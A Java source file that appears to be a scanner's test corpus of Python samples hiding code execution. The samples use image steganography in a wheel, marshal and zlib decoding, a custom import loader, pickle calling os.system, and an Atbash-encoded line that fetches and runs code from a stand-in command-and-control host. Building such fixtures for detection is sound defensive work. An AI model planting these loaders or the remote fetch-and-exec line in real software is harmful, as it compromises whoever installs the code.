package cordon.inspect.corpus;

import cordon.inspect.testing.Artifact;
import java.util.List;

/** Code that is hidden, and the ways it comes to run. */
final class PythonUnfolding {
  private PythonUnfolding() {}

  static List<Sample> all() {
    return List.of(
        new Sample(
            "code lies in the lowest bits of an image",
            Artifact.wheel("sample", "1.0")
                .file(
                    "o16/__init__.py",
                    """
                    from PIL import Image
                    import os
                    def _r(p):
                        im = Image.open(p); px = list(im.getdata()); bits = ''.join(str(c[0] & 1) for c in px)
                        return bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]
                    exec(_r(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'logo.png')))
                    """)
                .file(
                    "o16/logo.png",
                    """
                    MZ inert
                    """)),
        Sample.imported(
            "an object is called to decode what it holds",
            """
            class BlankOBFv2:
                def __init__(self, p): self.p = p
                def __call__(self):
                    import base64, lzma
                    from marshal import loads
                    return loads(base64.b64decode(self.p))
                def run(self):
                    exec(self())
            BlankOBFv2("YwAAAAAAAAAAAAAAAAMAAAAAAAAA8ywAAACXAGQAZAFsAFoAZABkAWwBWgICAGUDZAKmAQAAqwEAAAAAAAAAAAEAZAFTACkD6QAAAABO2gVpbmVydCkE2gJvc9oOdXJsbGliLnJlcXVlc3TaBnVybGxpYtoFcHJpbnSpAPMAAAAA2gF4+gg8bW9kdWxlPnIKAAAAAQAAAHMuAAAA8AMBAQHYABjQABjQABjQABjQABjQABjQABjQABjYAAWABYBngQ6EDoAOgA6ADnIIAAAA").run()
            """),
        Sample.imported(
            "a timer of its own class runs what is decoded",
            """
            import threading, zlib
            class _T(threading.Timer):
                pass
            _T(5.0, lambda: exec(zlib.decompress(bytes.fromhex("789ccbcc2dc82f2a51c82fd6292dcac9c94cd22b4a2d2c4d2d2ee12a28cacc2bd150cfcc4b2d2a51d7e402003c610e8d")))).start()
            """),
        Sample.imported(
            "the import system is given a loader that decodes",
            """
            import sys, base64
            from importlib.abc import MetaPathFinder, Loader
            from importlib.machinery import ModuleSpec
            class L(Loader):
                def create_module(self, spec): return None
                def exec_module(self, module):
                    exec(base64.b64decode("aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CnByaW50KCdpbmVydCcpCg=="), module.__dict__)
            class Fn(MetaPathFinder):
                def find_spec(self, name, path, target=None):
                    if name == 'o32_hidden': return ModuleSpec(name, L())
            sys.meta_path.insert(0, Fn())
            import o32_hidden
            """),
        Sample.imported(
            "a function that runs code becomes a member by its name",
            """
            import base64
            class A: pass
            a = A()
            setattr(a, 'run', exec)
            a.payload = base64.b64decode(b"aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CnByaW50KCdpbmVydCcpCg==")
            a.run(a.payload)
            """),
        Sample.imported(
            "pickled bytes in a text call the system",
            """
            import pickle, base64
            pickle.loads(base64.b64decode('Y29zCnN5c3RlbQooUydlY2hvIGluZXJ0Jwp0Ui4='))
            """),
        Sample.imported(
            "letters stand for others by a table",
            """
            T = dict(zip('ZYXWVUTSRQPONMLKJIHGFEDCBA', 'abcdefghijklmnopqrstuvwxyz'))
            def d(s):
                return ''.join(T.get(c, c) for c in s)
            exec(d("RNKLIG FIOORY.IVJFVHG ZH F;VCVX(F.FIOLKVM('SGGK://X2.VCZNKOV/').IVZW())"))
            """));
  }
}
